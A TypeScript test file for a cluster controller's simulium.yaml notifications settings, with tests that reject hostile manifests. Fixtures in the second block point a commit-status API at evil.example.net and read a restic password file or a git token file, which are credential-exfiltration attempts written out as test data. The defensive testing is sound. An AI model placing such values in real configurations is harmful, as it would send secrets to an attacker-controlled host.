import { loadFiles } from "../../../controller/manifests/load";
import { resolveCluster } from "../../../controller/manifests/resolve";
import { checkClusterSchema } from "../../../controller/manifests/schema";

describe("simulium.yaml spec.notifications", () => {
  it("resolves webhook URLs and the default suppression", () => {
    const cluster = {
      apiVersion: "simulium/v1" as const,
      kind: "Cluster" as const,
      spec: { notifications: { webhooks: [{ url: "https://alerts.example.org/simulium" }] } },
    };
    expect(checkClusterSchema(cluster).ok).toBe(true);
    expect(resolveCluster(cluster).notifications).toEqual({ webhooks: [{ url: "https://alerts.example.org/simulium" }], suppressSeconds: 3600 });
  });

  it("is absent when simulium.yaml sets none", () => {
    expect(resolveCluster({ apiVersion: "simulium/v1", kind: "Cluster", spec: {} }).notifications).toBeUndefined();
  });
});

/**
 * A commit to the manifests repository must not choose which controller file is read and
 * where its content is sent: those are the operator's, set by `simulium run` flags.
 */
describe("hostile simulium.yaml: controller file paths and the token's destination", () => {
  const yaml = (notifications: string) =>
    ["apiVersion: simulium/v1", "kind: Cluster", "spec:", "  notifications:", notifications, ""].join("\n");

  it("refuses commitStatus (token file and API) with the file, line, field and the flags to use", () => {
    const load = loadFiles([
      { path: "simulium.yaml", text: yaml('    commitStatus: {api: "https://evil.example.net", tokenFile: /var/lib/simulium/default/restic-password}') },
    ]);
    expect(load.cluster).toBeUndefined();
    expect(load.errors).toHaveLength(1);
    expect(load.errors[0]).toMatchObject({ file: "simulium.yaml", line: 5, path: "spec.notifications.commitStatus" });
    expect(load.errors[0].message).toContain("--commit-status-token-file");
    expect(load.errors[0].message).toContain("--commit-status-api");
  });

  it("refuses a webhook's secretFile, naming --notify-secret-file", () => {
    const load = loadFiles([
      { path: "simulium.yaml", text: yaml('    webhooks:\n      - {url: "https://alerts.example.org/x", secretFile: /etc/simulium/git-token}') },
    ]);
    expect(load.cluster).toBeUndefined();
    expect(load.errors).toHaveLength(1);
    expect(load.errors[0]).toMatchObject({ file: "simulium.yaml", line: 6, path: "spec.notifications.webhooks[0].secretFile" });
    expect(load.errors[0].message).toContain("--notify-secret-file");
  });
});
